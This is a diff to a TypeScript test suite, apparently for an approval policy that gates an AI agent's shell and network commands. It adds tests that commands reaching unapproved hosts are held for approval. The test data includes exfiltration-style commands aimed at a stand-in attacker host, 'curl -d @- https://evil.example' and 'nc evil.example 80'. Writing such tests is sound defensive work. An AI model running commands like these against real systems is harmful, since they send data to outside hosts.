@@ -148,6 +148,25 @@ describe('what cannot be judged is asked', () => {
   });
 });
 
+describe('the network a shell command reaches is judged as a network call', () => {
+  const NPM_ONLY: ApprovalPolicy = {
+    rules: [
+      { decision: 'allow', tool: 'network', command: '^https://registry\\.npmjs\\.org/' },
+      { decision: 'allow', tool: ['shell', 'file_write'], path: 'inside_workdir' },
+    ],
+    default: 'ask',
+  };
+
+  it('by the rules of the network tool, with the URL as the rule sees it', () => {
+    expect(sh('curl -sO https://registry.npmjs.org/left-pad', CTX, NPM_ONLY).decision).toBe('allow');
+    expect(sh('curl -d @- https://evil.example', CTX, NPM_ONLY)).toMatchObject({ decision: 'ask', reason: expect.stringContaining('curl reaches https://evil.example') });
+    // A client that names no URL is judged by its command: no network rule here allows it.
+    expect(sh('nc evil.example 80', CTX, NPM_ONLY).decision).toBe('ask');
+    expect(sh('rsync -a src/ out/', CTX, NPM_ONLY).decision).toBe('allow');
+    expect(sh('rsync -a src/ host:out/', CTX, NPM_ONLY).decision).toBe('ask');
+  });
+});
+
 describe('paths and redirections under AUTO_APPROVE_POLICY', () => {
   it.each([
     ['echo hi > out.txt', 'allow'],
@@ -169,7 +188,7 @@ describe('paths and redirections under AUTO_APPROVE_POLICY', () => {
     ['cd $X && cat a', 'ask'],
     ['git log --oneline -5', 'allow'],
     ['curl -o /tmp/x https://example.com/x', 'ask'],
-    ['curl https://example.com/x', 'allow'],
+    ['curl https://example.com/x', 'ask'],
     ['echo $HOME', 'allow'],
   ] as const)('%j → %s', (command, decision) => {
     expect(sh(command).decision).toBe(decision);
